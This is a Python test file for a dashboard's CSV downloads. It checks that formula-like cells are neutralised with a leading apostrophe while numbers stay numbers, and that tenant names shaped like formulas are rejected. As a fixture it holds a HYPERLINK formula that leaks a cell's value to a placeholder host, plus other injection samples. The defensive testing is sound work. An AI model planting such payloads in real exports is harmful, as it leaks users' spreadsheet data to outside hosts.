"""Issue 31: the CSV files the pages offer people are safe to open in a spreadsheet.

A cell a spreadsheet would run (text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return: OWASP's CSV injection) is written with a leading ``'``; numbers, negative
ones included, stay numbers.  The ladder replay carries the uploaded file's submission
names, which a person chose: ``=HYPERLINK(...)`` was written as it is.
"""
from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

import meter_dashboard as md
from meter_dashboard.core.tables import FORMULA_STARTS, spreadsheet_cell, spreadsheet_frame

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
NAMES = [HYPERLINK, "@SUM(1+1)", "-2+3", "+cmd", "plain"]  # cells are stripped: a tab cannot lead a name


def cells(text: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(text)) if row and not row[0].startswith("#")]


def runs_as_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


def _table(text: str) -> str:
    """The CSV's table: the download starts with its inputs as ``# name: value`` lines (issue 30)."""
    lines = text.splitlines(keepends=True)
    assert lines and lines[0].startswith("#")
    return "".join(line for line in lines if not line.startswith("#"))


def test_the_ladder_replay_download_neutralises_formula_names():
    rng = np.random.default_rng(1)
    losses = rng.integers(0, 2, size=(40, len(NAMES)))
    header = ",".join('"' + n.replace('"', '""') + '"' for n in NAMES)
    data = (header + "\n" + "\n".join(",".join(map(str, row)) for row in losses) + "\n").encode()
    view = md.Ladder(data, step=0.25, run_attack=False)
    text = _table(view._replay_csv())
    rows = cells(text)
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + HYPERLINK, "'@SUM(1+1)", "'-2+3", "'+cmd", "plain"]
    assert not any(runs_as_formula(c) for row in rows for c in row)
    frame = pd.read_csv(io.StringIO(text))
    assert frame["ladder_score"].dtype == float and frame["naive"].between(0, 1).all()  # numbers stay numbers


def test_the_compare_pairs_download_keeps_negative_numbers_numbers():
    a, b = np.arange(30.0) - 20.5, np.arange(30.0) - 21.0
    view = md.Compare((a, b), gamma=0.8, resamples=200)
    text = _table(view._pairs_csv())
    assert "'" not in text and text.splitlines()[1].startswith("-20.5,-21.0")
    frame = pd.read_csv(io.StringIO(text))
    assert np.array_equal(np.sort(frame["a"].to_numpy()), np.sort(a))


def test_the_plan_download_is_unchanged_numbers():
    text = md.Planner(budget=20_000)._csv().getvalue()
    assert "'" not in "".join(line for line in text.splitlines() if not line.startswith("#"))
    frame = pd.read_csv(io.StringIO(text), comment="#", index_col="variant")
    assert frame.loc["regular", "labels"] == 100_033


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-0.5", "-0.5"), ("-1e-5", "-1e-5"), (".5", ".5"), ("-x", "'-x"),
    ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), ("-", "'-"),
    (-0.5, -0.5), (3, 3), (None, None), (True, True)])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value, shown):
    assert spreadsheet_cell(value) == shown


def test_a_frame_keeps_its_number_columns_and_neutralises_text_labels():
    frame = pd.DataFrame({"=name": ["=x", "-1"], "v": [-1.5, 2.0]}, index=pd.Index(["@i", "ok"]))
    out = spreadsheet_frame(frame)
    assert list(out.columns) == ["'=name", "v"] and out["v"].tolist() == [-1.5, 2.0]
    assert out["'=name"].tolist() == ["'=x", "-1"] and list(out.index) == ["'@i", "ok"]
    assert frame.columns[0] == "=name"  # the frame given is not changed


def test_the_history_export_holds_no_text_a_spreadsheet_would_run():
    """The export's only text is tenant names and 'commit N': a tenant name cannot start like a formula."""
    from meter_dashboard.core.validation import InputError
    from meter_dashboard.testsets.service import check_tenant

    for name in ("=HYPERLINK(1)", "+1", "-x", "@SUM(1)", "\tx"):
        with pytest.raises(InputError):
            check_tenant(name)
    assert check_tenant("alice-2") == "alice-2"
